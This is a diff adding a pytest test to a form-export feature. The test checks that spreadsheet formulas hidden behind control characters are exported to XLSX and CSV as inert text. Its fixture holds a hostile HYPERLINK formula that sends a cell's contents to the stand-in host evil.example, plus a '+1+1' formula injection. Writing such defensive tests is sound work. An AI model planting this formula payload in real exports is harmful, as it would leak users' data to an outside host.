@@ -403,3 +403,22 @@ def test_an_export_whose_worker_was_killed_offers_a_retry_that_completes_it(
     job.refresh_from_db()
     assert (job.status, job.message) == (JobStatus.SUCCEEDED, "导出完成，共 3 行。")
     assert client.get(job.result_url).status_code == 200
+
+
+@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
+def test_a_formula_behind_control_characters_stays_text(client, viewer, form_page, file_format):
+    """XLSX cannot hold control characters; they are dropped BEFORE the formula check, so
+    "\\x01=HYPERLINK(…)" is written as the text "'=HYPERLINK(…)", never as a live formula."""
+    hostile = '\x01=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    make_application(form_page, name=hostile, answers={"\x02\x03+1+1": "x"})
+
+    response = post_export(client, viewer, columns=["name", "answers"], file_format=file_format)
+
+    if file_format == "xlsx":
+        rows, sheet = read_xlsx(response.content)
+        cell = sheet.cell(row=2, column=1)
+        assert cell.data_type == "s"  # openpyxl reads a formula back as data type "f"
+    else:
+        rows = read_csv(response)
+    assert rows[1][0] == "'" + hostile[1:]
+    assert rows[1][1] == "'+1+1：x"  # an imported header controls the start of the cell
